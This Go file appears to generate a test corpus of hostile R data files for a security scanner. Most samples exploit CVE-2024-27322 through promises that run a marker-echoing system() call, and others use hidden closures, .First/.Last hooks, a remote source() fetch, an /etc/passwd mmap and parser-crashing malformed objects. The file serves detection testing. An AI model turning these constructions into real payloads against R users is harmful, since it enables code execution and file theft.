package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"strings"
)

// rItem is one item of a serialized R object, in the binary encoding of big-endian numbers.
type rItem []byte

// rInts writes integers.
func rInts(numbers ...int) rItem {
	var b rItem
	for _, n := range numbers {
		b = binary.BigEndian.AppendUint32(b, uint32(int32(n)))
	}
	return b
}

// The items that have no content, and the flags of the others.
const (
	rNull, rGlobal, rBaseEnv, rUnbound, rEmptyEnv = 254, 253, 241, 252, 242

	rAttributes, rTag, rObject = 1 << 9, 1 << 10, 1 << 8
)

func rJoin(items ...rItem) rItem { return rItem(bytes.Join(rawItems(items), nil)) }

func rawItems(items []rItem) [][]byte {
	list := make([][]byte, len(items))
	for i, item := range items {
		list[i] = item
	}
	return list
}

func rChar(s string) rItem { return append(rInts(9|64<<12, len(s)), s...) }
func rSym(s string) rItem  { return rJoin(rInts(1), rChar(s)) }

// rStr is a vector of strings.
func rStr(texts ...string) rItem {
	b := rInts(16, len(texts))
	for _, s := range texts {
		b = append(b, rChar(s)...)
	}
	return b
}

// rCall is a call of a function by its name.
func rCall(name string, args ...rItem) rItem { return rCallOf(rSym(name), args...) }

// rCallOf is a call of an expression.
func rCallOf(function rItem, args ...rItem) rItem {
	b := rJoin(rInts(6), function)
	for _, a := range args {
		b = append(append(b, rInts(2)...), a...)
	}
	return append(b, rInts(rNull)...)
}

// rPromise is a promise whose code runs in an environment.
func rPromise(value, code rItem) rItem {
	return rJoin(rInts(5|rTag, rGlobal), value, code)
}

// rLate is a promise without a value.
func rLate(code rItem) rItem { return rPromise(rInts(rUnbound), code) }

// rPair is a named pair of a list, without its end.
func rPair(flags int, name string, value rItem) rItem {
	return rJoin(rInts(2|rTag|flags), rSym(name), value)
}

// rEnv is an environment with variables; they are pairs without their end.
func rEnv(bindings ...rItem) rItem {
	return rJoin(append([]rItem{rInts(4, 0, rEmptyEnv)}, append(bindings, rInts(rNull, rNull, rNull))...)...)
}

// rClosure is a function without arguments.
func rClosure(body rItem) rItem { return rJoin(rInts(3|rTag, rGlobal, rNull), body) }

// rList is a vector of items.
func rList(items ...rItem) rItem { return rJoin(rInts(19, len(items)), rJoin(items...)) }

// rds is the file that saveRDS writes without compression.
func rds(item rItem) []byte {
	return append([]byte("X\n"), rJoin(rInts(3, 0x40202, 0x30500, 5), rItem("UTF-8"), item)...)
}

// rda is the file that save writes: a list of named objects.
func rda(pairs ...rItem) []byte {
	return append([]byte("RDX3\n"), rds(rJoin(rJoin(pairs...), rInts(rNull)))...)
}

// rdataSamples are serialized R objects.
func rdataSamples() []Sample {
	file := func(group, name, technique string, executes bool, content []byte) Sample {
		s := Sample{Name: "rdata-" + name, Group: "rdata-" + group, Technique: technique, Loader: "R", Build: build(content)}
		if executes {
			s.Executes, s.Needs = true, "R before 4.4.0"
		}
		return s
	}
	run := rCall("system", rStr("echo "+Marker))
	promise := func(name, technique string, item rItem) Sample {
		return file("promise", name+".rds", "CVE-2024-27322: "+technique, true, rds(item))
	}
	gz := func(content []byte) []byte {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		_, _ = w.Write(content) // a buffer takes everything
		_ = w.Close()
		return b.Bytes()
	}
	late := rLate(run)
	samples := []Sample{
		promise("promise", "a promise as the object: printing it runs the code", late),
		promise("promise-quiet", "a promise whose code names no function that is known", rLate(rCall("bootstrap", rStr(Marker)))),
		promise("promise-symbol", "a promise for a variable", rLate(rSym("payload"))),
		promise("promise-in-list", "a promise in a list", rList(rStr("fine"), late)),
		promise("promise-in-pairs", "a promise in a list of pairs", rJoin(rPair(0, "coef", late), rInts(rNull))),
		promise("promise-attribute", "a promise as an attribute", rJoin(rInts(13|rAttributes, 1, 7), rPair(0, "names", late), rInts(rNull))),
		promise("promise-in-call", "a promise as the argument of a call", rCall("lm", late)),
		promise("promise-eval", "code from text in a promise", rLate(rCall("eval", rCall("parse", rInts(rNull), rStr("system('echo "+Marker+"')"))))),
		promise("promise-do-call", "a function by its name as text in a promise", rLate(rCall("do.call", rStr("system"), rStr("echo "+Marker)))),
		promise("promise-colons", "a function of a package by its name in a promise", rLate(rCallOf(rCall("::", rSym("base"), rSym("system2")), rStr("echo")))),
		promise("promise-in-frame", "a variable of an environment that a formula would keep", rEnv(rPair(0, "wt", late))),
		promise("promise-in-dots", "a promise among further arguments in an environment", rEnv(rPair(0, "...", rJoin(rInts(17), late, rInts(rNull))))),
		promise("promise-source", "a promise that loads code from an address", rEnv(rPair(0, "x", rLate(rCall("source", rStr("http://127.0.0.1:9/x.R")))))),
		promise("active-binding", "an active binding whose function runs a command", rEnv(rPair(1<<15<<12, "coefficients", rClosure(run)))),
		promise("promise-closure-environment", "a promise in the environment of a function", rJoin(rInts(3|rTag), rEnv(rPair(0, "x", late)), rInts(rNull), rCall("predict", rSym("x")))),
		file("promise", "promise.rda", "CVE-2024-27322: a saved variable that is a promise: any use of it runs the code", true, rda(rPair(0, "model", late))),
		file("promise", "promise-override.rda", "CVE-2024-27322: a saved variable with the name of a function that everyone calls", true, rda(rPair(0, "print", late))),
		file("promise", "promise.rds.gz", "CVE-2024-27322: in the compression of saveRDS", true, gz(rds(late))),
		file("promise", "promise-gzip.rds", "CVE-2024-27322: in the compression of saveRDS", true, gz(rds(rList(late)))),
		file("promise", "promise-v2.rds", "CVE-2024-27322: in version 2", true, append([]byte("X\n"), rJoin(rInts(2, 0x40202, 0x20300), late)...)),
		file("promise", "promise-native.rds", "CVE-2024-27322: in the byte order of the machine", true, rNative(rds(late))),
		file("promise", "promise-ascii.rds", "CVE-2024-27322: in the encoding as text", true, []byte(rText)),
	}
	return append(samples, rdataCodeSamples(file, run)...)
}

// rText is a promise in the encoding as text.
var rText = "A\n3\n262658\n197888\n5\nUTF-8\n1029\n253\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n26\necho\\040" + Marker + "\n254\n"

// rNative turns the numbers of the promise round. Only strings stay as they are.
func rNative(content []byte) []byte {
	out := []byte("B\n")
	for rest := content[2:]; len(rest) >= 4; {
		if bytes.HasPrefix(rest, []byte("UTF-8")) || bytes.HasPrefix(rest, []byte("syst")) || bytes.HasPrefix(rest, []byte("echo")) {
			n := map[byte]int{'U': 5, 's': 6, 'e': 5 + len(Marker)}[rest[0]]
			out, rest = append(out, rest[:n]...), rest[n:]
			continue
		}
		out = append(out, rest[3], rest[2], rest[1], rest[0])
		rest = rest[4:]
	}
	return out
}

// rdataCodeSamples are objects whose code waits to be called, and objects that break readers.
func rdataCodeSamples(file func(group, name, technique string, executes bool, content []byte) Sample, run rItem) []Sample {
	code := func(name, technique string, item rItem) Sample {
		return file("code", name+".rds", technique, false, rds(item))
	}
	broken := func(name, technique string, item rItem) Sample {
		return file("structure", name+".rds", technique, false, rds(item))
	}
	compiled := rJoin(rInts(21, 1), rInts(13, 1, 12), rInts(2), rInts(6, rNull), rJoin(rInts(0), rSym("system")), rInts(0, rNull), rInts(0), rStr("echo"))
	return []Sample{
		code("closure", "a function of a model that runs a command when it is called", rList(rClosure(run))),
		code("closure-do-call", "a function that calls another by its name as text", rClosure(rCall("do.call", rStr("system"), rStr("echo")))),
		code("closure-get", "a function that finds another by its name as text", rClosure(rCallOf(rCall("get", rStr("system2")), rStr("echo")))),
		code("closure-alias", "a function that hands another one on", rClosure(rCall("lapply", rStr("echo"), rSym("system")))),
		code("call", "the call that made a model runs a command when the model is updated", rJoin(rInts(19|rAttributes, 1), run, rPair(0, "names", rStr("call")), rInts(rNull))),
		code("call-dyn-load", "a call that loads machine code", rCall("dyn.load", rStr("x.so"))),
		code("builtin-system", "the interpreter's own function that starts programs, without a name that a check of names would see", rJoin(rInts(8, 6), rItem("system"))),
		code("promise-forced", "a promise that has its value, outside of an environment", rPromise(rStr("fine"), run)),
		code("bytecode", "compiled code as an object of its own: its instructions are not checked", compiled),
		file("code", "first.rda", "a workspace whose function .First R calls by itself", false, rda(rPair(0, ".First", rClosure(run)))),
		file("code", "last.rda", "a workspace whose function .Last R calls when it ends", false, rda(rPair(0, ".Last", rClosure(rCall("cat", rStr(Marker)))))),
		code("mapped", "a vector that opens a file of the machine when it is loaded", rJoin(rInts(238),
			rJoin(rInts(2), rSym("mmap_real"), rInts(2), rSym("base"), rInts(2, 13, 1, 14, rNull)),
			rJoin(rInts(2), rStr("/etc/passwd"), rInts(2, 14, 1, 0, 0, 2, 13, 1, 14, 2, 10, 1, 1, 2, 10, 1, 0, 2, 10, 1, 1, rNull)), rInts(rNull))),
		broken("string-claimed", "a string of 2^31 bytes", rInts(16, 1, 9, 1<<31-1)),
		broken("vector-claimed", "a vector of 2^48 numbers", rInts(14, -1, 65535, -1)),
		broken("vector-negative", "a vector of a negative length", rInts(14, -5)),
		broken("list-claimed", "nested lists of 2^31 items each", rItem(strings.Repeat(string(rInts(19, 1<<31-1)), 20))),
		broken("deep", "100,000 nested lists: the reader calls itself for each", rItem(strings.Repeat(string(rInts(19, 1)), 100_000))),
		broken("reference-outside", "a reference to an object that was not read: R reads outside of its table", rInts(255|5000<<8)),
		broken("reference-negative", "a reference to object -1", rInts(255, -1)),
		broken("type-unknown", "an item of a type that does not exist", rInts(99)),
		broken("cut", "an object that is cut short", rList(rStr("a", "b"))[:20]),
		file("structure", "trailing.rds", "a pickle after the end of the object", false, append(rds(rStr("fine")), attackPickle()...)),
		file("structure", "second-object.rds", "a second object after the first, with a promise", false, append(rds(rStr("fine")), rds(rLate(run))...)),
		file("structure", "version.rds", "a version that does not exist", false, []byte("X\n\x00\x00\x00\x03\x00\x00\x00\x00\x00\x00\x00\x00\x7f\xff\xff\xff")),
		file("structure", "builtin-claimed.rds", "a function of the interpreter with a name of 2^31 bytes", false, rds(rInts(8, 1<<31-1))),
	}
}
